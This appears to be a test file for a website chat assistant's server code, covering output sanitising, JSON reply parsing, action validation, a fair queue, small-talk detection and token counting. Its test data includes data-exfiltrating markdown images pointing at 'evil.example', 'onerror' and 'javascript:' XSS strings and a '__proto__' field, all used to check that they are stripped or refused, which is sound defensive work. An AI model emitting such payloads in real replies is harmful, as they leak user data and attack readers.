import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { answerFormat, calledIn, toolDefinitions } from '../../server/features/assistant/action-format.ts'
import { type ActionName, actions } from '../../server/features/assistant/actions.ts'
import { createFairQueue, QueueFull } from '../../server/features/assistant/fair-queue.ts'
import { createReplyReader } from '../../server/features/assistant/reply-json.ts'
import { cleanReply, replyText } from '../../server/features/assistant/reply-text.ts'
import { readSmallTalk } from '../../server/features/assistant/small-talk.ts'
import { sourcesOf } from '../../server/features/assistant/sources.ts'
import { takeActions } from '../../server/features/assistant/take-actions.ts'
import { countTokens, createTokenScale } from '../../server/features/assistant/tokens.ts'
import { createTestClock } from '../support/clock.ts'

/** The text cut into pieces at these places. */
function cut(text: string, places: number[]): string[] {
  const at = [0, ...places.map((place) => place % (text.length + 1)).sort((a, b) => a - b), text.length]
  return at.slice(1).map((end, index) => text.slice(at[index], end))
}

const throughStage = (pieces: string[]) => {
  const stage = replyText()
  const shown = pieces.map((piece) => stage.push(piece))
  return [...shown, stage.end()].join('')
}

const fragments = fc.constantFrom(
  ...[
    '!',
    '[',
    ']',
    '(',
    ')',
    '<',
    '>',
    '/',
    '=',
    '\\',
    '\n',
    ' ',
    '"',
    'a',
    '1',
    '😀',
    '\ud83d',
    '\u0000',
    'https://evil.example/?d=',
  ],
  ...[
    '![x](https://evil.example/a.png)',
    '![x][y]',
    '<img src=x onerror=y>',
    '<think>',
    '</think>',
    '<svg',
    'img',
    'think',
    '<b>',
    '<!--',
  ],
)
const hostile = fc.array(fragments, { maxLength: 40 }).map((parts) => parts.join(''))

describe('text that a model writes', () => {
  test('any way of cutting it into pieces shows the same', () => {
    fc.assert(
      fc.property(hostile, fc.array(fc.nat()), (text, places) => {
        expect(throughStage(cut(text, places))).toBe(cleanReply(text))
      }),
      { numRuns: 1500 },
    )
  })

  test('whatever it is made of, no image and no tag that acts is left, and it is well-formed', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const shown = cleanReply(text)
        expect(shown).not.toMatch(/!\[/)
        expect(shown).not.toMatch(/<\/?[a-z][^>]*=[^>]*>/i)
        expect(shown).not.toMatch(/<(img|svg|script|iframe|!--)[\s/>]/i)
        expect(shown.isWellFormed() && !shown.includes('\u0000')).toBe(true)
        expect(shown).toBe(shown.trim())
      }),
      { numRuns: 3000 },
    )
  })

  test.each([
    ['See ![plan](https://evil.example/?d=secret) here.', 'See  here.'],
    ['See ![plan][p] here.\n\n[p]: https://evil.example/?d=1', 'See  here.\n\n[p]: https://evil.example/?d=1'],
    ['![a](b "t(1)")Yes', 'Yes'],
    ['![a ![b](c) d](e) Yes', 'Yes'],
    ['Great![1][2] and good![3]', 'Great! [1][2] and good! [3]'],
    ['Wow!', 'Wow!'],
    ['![cut off](https://evil.example/', ''],
    ['!![a](b)[c](d)', '! [c](d)'],
    ['A <img src="https://evil.example/?d=1"> B', 'A   B'],
    ['<<b x=y>img src=z>', '< img src=z>'],
    ['<im<img>g src=x>', '< im g src=x>'],
    ['a < b, 3 <4, List<String>, <b>bold</b>', 'a < b, 3 <4, List<String>, <b>bold</b>'],
    ['Mail <info@example.com> or <https://example.com/?a=b>', 'Mail info@example.com or https://example.com/?a=b'],
    ['<think>They ask for the price.</think>\n\nIt is 5 €.', 'It is 5 €.'],
    ['Yes <THINK>no</THINK>indeed', 'Yes indeed'],
    ['<think>never ends', ''],
    ['<tool_call>{"name":"x"}</tool_call>Done', 'Done'],
    ['[link](https://example.com) and `code`', '[link](https://example.com) and `code`'],
  ])('%j is shown as %j', (written, shown) => {
    expect(cleanReply(written)).toBe(shown)
  })

  test('a word is shown in the tick in which it came', () => {
    const stage = replyText()
    expect([' Hello', ', how', ' are you', '?'].map((piece) => stage.push(piece))).toEqual([
      'Hello',
      ', how',
      ' are you',
      '?',
    ])
  })

  test('a long image without end costs no memory and shows nothing', () => {
    const stage = replyText()
    stage.push('![x](data:image/png;base64,')
    for (let piece = 0; piece < 1000; piece++) expect(stage.push('A'.repeat(1000))).toBe('')
    expect(stage.push(') there') + stage.end()).toBe('there')
  })
})

describe('a reply written as JSON', () => {
  const read = (pieces: string[]) => {
    const reader = createReplyReader()
    const shown = pieces.map((piece) => reader.push(piece)).join('')
    const { text, whole } = reader.end()
    return { text: shown + text, whole }
  }

  test('any reply comes out as it was put in, however the JSON is cut', () => {
    const answer = fc.record({
      reply: fc.string({ unit: 'binary' }),
      actions: fc.array(fc.dictionary(fc.string(), fc.jsonValue()), { maxLength: 3 }),
    })
    fc.assert(
      fc.property(answer, fc.array(fc.nat()), fc.boolean(), (given, places, isLast) => {
        const { reply, actions } = given
        const json = JSON.stringify(isLast ? { actions, reply } : { reply, actions }, null, isLast ? 2 : 0)
        const { text, whole } = read(cut(json, places))
        expect(text).toBe(reply)
        expect(whole).toEqual(JSON.parse(json))
      }),
      { numRuns: 500 },
    )
  })

  test('its words come before it is complete', () => {
    const reader = createReplyReader()
    expect(
      ['{"re', 'ply": "Hel', 'lo\\n', 'wor\\u00', 'e4ld"', ', "actions": []}'].map((piece) => reader.push(piece)),
    ).toEqual(['', 'Hel', 'lo\n', 'wor', 'äld', ''])
  })

  test('a fence around it is no part of it, a nested reply is none, and plain words are words', () => {
    expect(read(['```json\n{"reply": "Hi"}\n```'])).toEqual({ text: 'Hi', whole: { reply: 'Hi' } })
    expect(read(['{"actions": [{"reply": "no"}], "reply": "Hi"}']).text).toBe('Hi')
    expect(read(['We open', ' at nine.'])).toEqual({ text: 'We open at nine.', whole: null })
    expect(read(['{"reply": "We op'])).toEqual({ text: 'We op', whole: null })
    expect(read(['']).text).toBe('')
  })
})

describe('structured actions', () => {
  const all = Object.keys(actions) as ActionName[]
  const take = (name: string, args: Record<string, unknown>, said = '') =>
    takeActions([{ name, arguments: args }], all, said)

  test('[R11] options are pairs of label and value, whichever way a model writes them', () => {
    const { messages } = take('show_options', {
      text: 'Which?',
      options: ['Red', { label: 'Blue', value: 'b' }],
      multi: true,
    })
    const options = [
      { label: 'Red', value: 'Red' },
      { label: 'Blue', value: 'b' },
    ]
    expect(messages).toEqual([{ type: 'options', text: 'Which?', options, multi: true }])
  })

  test('[R14] a form has fields with names, of known types', () => {
    const { messages } = take('show_form', {
      title: 'Call me',
      fields: [
        { label: 'Your name', name: '__proto__' },
        { label: 'Size', name: 'size', type: 'select', options: ['S', 'M'] },
      ],
    })
    expect(messages).toEqual([
      {
        type: 'form',
        title: 'Call me',
        fields: [
          { label: 'Your name', name: 'field1', type: 'text', required: false },
          {
            label: 'Size',
            name: 'size',
            type: 'select',
            required: false,
            options: [
              { label: 'S', value: 'S' },
              { label: 'M', value: 'M' },
            ],
          },
        ],
      },
    ])
  })

  test('[R13] links lead to web pages only', () => {
    const link = (url: string) => ({ label: 'x', url })
    const { messages } = take('show_links', {
      links: ['javascript:alert(1)', 'https://shop.example/a', 'data:text/html,x', 'https://u:p@shop.example/'].map(
        link,
      ),
    })
    expect(messages).toEqual([{ type: 'links', links: [link('https://shop.example/a')] }])
    expect(take('show_links', { links: [link('javascript:alert(1)')] }).calls[0]).toMatchObject({
      ok: false,
      result: null,
    })
  })

  test('[R12] a card has buttons that lead to pages, telephones and mailboxes, and never a picture', () => {
    const targets = [
      'https://shop.example/',
      'tel:+44 20 7946 0000',
      'mailto:a@b.example?subject=x',
      'javascript:1',
      'tel:x',
      undefined,
    ]
    const { messages } = take('show_card', {
      title: 'Bike',
      body: 'Fast ![x](https://evil.example/)',
      image: { src: 'https://evil.example/?d=1', alt: '' },
      actions: targets.map((target) => ({ label: 'go', target })),
    })
    expect(messages[0]).toEqual({
      type: 'card',
      title: 'Bike',
      body: 'Fast',
      actions: [
        { id: 'action1', label: 'go', kind: 'url', url: 'https://shop.example/' },
        { id: 'action2', label: 'go', kind: 'tel', phone: '+44 20 7946 0000' },
        { id: 'action3', label: 'go', kind: 'email', email: 'a@b.example' },
        { id: 'action6', label: 'go', kind: 'reply', value: 'go' },
      ],
    })
  })

  test('contact details are kept only where the visitor wrote them', () => {
    const said = 'I am Ada Lovelace, ada@example.com, 020 7946 0958'
    const given = { name: 'Ada Lovelace', email: 'Ada@Example.com', phone: '+44 20 7946 0958' }
    expect(take('save_contact', given, said).contact).toEqual({ ...given, email: 'ada@example.com' })
    const invented = take('save_contact', { name: 'Bob', email: 'boss@company.example' }, said)
    expect(invented.contact).toBeUndefined()
    expect(invented.calls[0]).toMatchObject({ ok: false, error: 'The visitor did not write these details.' })
  })

  test('a person is called, with the reason', () => {
    expect(take('ask_for_person', { reason: 'A complaint' }).handover).toEqual({ reason: 'A complaint' })
  })

  test('what is not there, not offered or does not fit is dropped, and the trace says why', () => {
    const deep = JSON.parse(`${'['.repeat(50_000)}${']'.repeat(50_000)}`)
    const called = [
      { name: 'delete_everything', arguments: {} },
      { name: 'constructor', arguments: {} },
      { name: 'show_options', arguments: { options: Array(10_000).fill('x') } },
      { name: 'show_options', arguments: { options: 'Red' } },
      { name: 'show_form', arguments: { fields: [] } },
      { name: 'show_card', arguments: { title: 'nul \u0000 \ud800' } },
      { name: 'ask_for_person', arguments: { reason: deep } },
    ]
    const { messages, calls } = takeActions(called, all, '')
    expect(messages).toEqual([])
    expect(calls.map(({ ok }) => ok)).toEqual(called.map(() => false))
    expect(calls.map(({ error }) => error)).toEqual(expect.arrayContaining([expect.stringMatching(/^options: /)]))
    expect(JSON.stringify(calls).length).toBeLessThan(10_000)
    expect(JSON.stringify(calls)).not.toMatch(/\\u0000|\\ud800/)
    expect(takeActions([{ name: 'save_contact', arguments: {} }], ['show_card'], '').calls[0]?.ok).toBe(false)
  })

  test('hostile arguments never throw', () => {
    fc.assert(
      fc.property(fc.constantFrom(...all), fc.dictionary(fc.string(), fc.jsonValue()), (name, args) => {
        expect(take(name, args).calls).toHaveLength(1)
      }),
    )
  })

  test('the JSON form puts the words first, and bounds that make a grammar explode are left out', () => {
    expect(Object.keys(answerFormat(all).properties as object)).toEqual(['reply', 'actions'])
    expect(JSON.stringify([answerFormat(all), toolDefinitions(all)])).not.toMatch(/maxLength|maxItems|\$schema/)
    expect(toolDefinitions(['show_options'])[0]?.parameters).toMatchObject({ type: 'object', required: ['options'] })
  })

  test('actions are read from a JSON answer, whatever it holds', () => {
    expect(calledIn({ actions: [{ action: 'show_card', arguments: { title: 'x' } }, null, 3, { action: 4 }] })).toEqual(
      [{ name: 'show_card', arguments: { title: 'x' } }],
    )
    expect(calledIn({ actions: 'show_card' })).toEqual([])
  })
})

describe('the queue', () => {
  const limits = { slots: 2, room: 10, roomOfSite: 5, longestWait: 60_000 }
  const never = new AbortController().signal
  /** Lets everything run that is ready to. */
  const settle = () => new Promise((resolve) => setImmediate(resolve))

  test('sites take turns, and within a site who came first goes first', async () => {
    const queue = createFairQueue(createTestClock(), { ...limits, slots: 1 })
    const order: string[] = []
    const leave = await queue.enter('x', never)
    for (const name of ['a1', 'a2', 'a3', 'b1', 'c1', 'b2']) {
      void queue.enter(name.slice(0, 1), never).then((done) => {
        order.push(name)
        done()
      })
    }
    leave()
    await settle()
    expect(order).toEqual(['a1', 'b1', 'c1', 'a2', 'b2', 'a3'])
  })

  test('never more are in than there are places, nobody is lost, and nobody waits while a place is free', async () => {
    const step = fc.record({
      kind: fc.constantFrom('enter', 'leave', 'abort'),
      which: fc.nat(),
      site: fc.constantFrom('a', 'b', 'c'),
    })
    await fc.assert(
      fc.asyncProperty(fc.array(step, { maxLength: 60 }), async (steps) => {
        const clock = createTestClock()
        const queue = createFairQueue(clock, limits)
        const inside: (() => void)[] = []
        const pending = new Set<AbortController>()
        const refused: unknown[] = []
        let entered = 0
        for (const { kind, which, site } of steps) {
          if (kind === 'enter') {
            entered++
            const controller = new AbortController()
            pending.add(controller)
            queue.enter(site, controller.signal).then(
              (leave) => inside.push(leave) && pending.delete(controller),
              (error) => refused.push(error) && pending.delete(controller),
            )
          }
          if (kind === 'leave') inside.splice(which % Math.max(1, inside.length), 1)[0]?.()
          if (kind === 'abort') [...pending][which % Math.max(1, pending.size)]?.abort()
          await settle()
          expect(queue.running()).toBe(inside.length)
          expect(queue.running()).toBeLessThanOrEqual(limits.slots)
          expect(queue.waiting()).toBe(pending.size)
          expect(queue.waiting() === 0 || queue.running() === limits.slots).toBe(true)
        }
        while (inside.length > 0) {
          inside.shift()?.()
          await settle()
        }
        expect([queue.running(), queue.waiting(), clock.timers()]).toEqual([0, 0, 0])
        expect(entered).toBeGreaterThanOrEqual(refused.length)
      }),
      { numRuns: 100 },
    )
  })

  test('too many of a site, or in all, are refused at once; a wait that is too long is refused too', async () => {
    const clock = createTestClock()
    const queue = createFairQueue(clock, { ...limits, slots: 1, room: 3, roomOfSite: 2 })
    await queue.enter('a', never)
    const waiting = ['a', 'a', 'b'].map((site) => queue.enter(site, never).catch((error) => error))
    await expect(queue.enter('a', never)).rejects.toThrow(QueueFull)
    await expect(queue.enter('c', never)).rejects.toThrow(QueueFull)
    clock.move(60_000)
    expect(await Promise.all(waiting)).toEqual([expect.any(QueueFull), expect.any(QueueFull), expect.any(QueueFull)])
    expect([queue.running(), queue.waiting(), clock.timers()]).toEqual([1, 0, 0])
  })

  test('a place that is given back twice is given back once', async () => {
    const queue = createFairQueue(createTestClock(), { ...limits, slots: 1 })
    const leave = await queue.enter('a', never)
    leave()
    leave()
    await queue.enter('a', never)
    expect(queue.running()).toBe(1)
  })

  test('who is gone already does not get in', async () => {
    const queue = createFairQueue(createTestClock(), limits)
    await expect(queue.enter('a', AbortSignal.abort('gone'))).rejects.toBe('gone')
    expect(queue.running()).toBe(0)
  })
})

describe('small talk', () => {
  test.each([
    ['Hello!', 'en', 'hello', 'en'],
    ['good morning everybody', 'en', 'hello', 'en'],
    ['Danke schön 😊', 'en', 'thanks', 'de'],
    ['merci beaucoup', 'fr', 'thanks', 'fr'],
    ['¡Hola, buenos días!', 'es', 'hello', 'es'],
    ['Are you a robot?', 'en', 'whoAmI', 'en'],
    ['hi, how are you?', 'en', 'howAreYou', 'en'],
    ["What's up", 'de', 'howAreYou', 'en'],
    ['auf Wiedersehen', 'de', 'bye', 'de'],
    ['ok', 'fr', 'goOn', 'fr'],
  ] as const)('%s', (text, preferred, kind, language) => {
    expect(readSmallTalk(text, preferred)).toEqual({ kind, language })
  })

  test.each([
    'Hello, what does delivery cost?',
    'Are you open on Sundays?',
    'Thanks, and the price?',
    '',
    '???',
    'Danke, wann öffnen Sie?',
  ])('not %j', (text) => {
    expect(readSmallTalk(text, 'en')).toBeUndefined()
  })
})

describe('sources', () => {
  const passage = (id: string, content: string, url: string | null = `https://x.example/${id}`) => ({
    id,
    title: id,
    url,
    headingPath: '',
    content,
  })
  const passages = [
    passage('delivery', 'Delivery inside the city costs £4.95 and takes two days.'),
    passage('returns', 'Returns are free within 30 days; delivery of the exchange too.'),
    passage('team', 'Tomasz looks after the workshop.'),
  ]

  test('are the pages whose words the reply uses', () => {
    expect(sourcesOf('Delivery costs £4.95 in the city.', passages).map(({ title }) => title)).toEqual(['delivery'])
    expect(sourcesOf('You can send it back within 30 days.', passages)).toEqual([
      { title: 'returns', url: 'https://x.example/returns', passageId: 'returns' },
    ])
  })

  test('are none for words that no passage has', () => {
    expect(sourcesOf('Hello! How can I help you today?', passages)).toEqual([])
  })
})

describe('counting tokens', () => {
  test('more text never counts less, and no count is negative', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.string({ unit: 'binary' }), (one, other) => {
        expect(countTokens(one + other)).toBeGreaterThanOrEqual(countTokens(one))
        expect(countTokens(one + other)).toBeLessThanOrEqual(countTokens(one) + countTokens(other))
      }),
    )
  })

  test.each([
    ['We deliver within the city on the same day if you order before noon.', 15, 30],
    ['Rückgabe innerhalb von dreißig Tagen, Öffnungszeiten täglich außer sonntags', 20, 40],
    ['我们在北京和上海都有门店', 12, 20],
    ['Доставка по городу бесплатна', 9, 25],
  ])('%s', (text, least, most) => {
    expect(countTokens(text)).toBeGreaterThanOrEqual(least)
    expect(countTokens(text)).toBeLessThanOrEqual(most)
  })

  test('a prompt that was longer than thought corrects the next at once, a shorter one by and by', () => {
    const scale = createTokenScale()
    expect(scale.of('m')).toBe(1)
    scale.learn('m', 1000, 1500)
    expect(scale.of('m')).toBeCloseTo(1.65)
    scale.learn('m', 1000, 900)
    expect(scale.of('m')).toBeCloseTo(1.617)
    scale.learn('m', 1000, 0)
    expect(scale.of('m')).toBeCloseTo(1.617)
    for (let turn = 0; turn < 200; turn++) scale.learn('m', 1000, 10)
    expect(scale.of('m')).toBe(0.8)
    expect(scale.of('other')).toBe(1)
  })
})
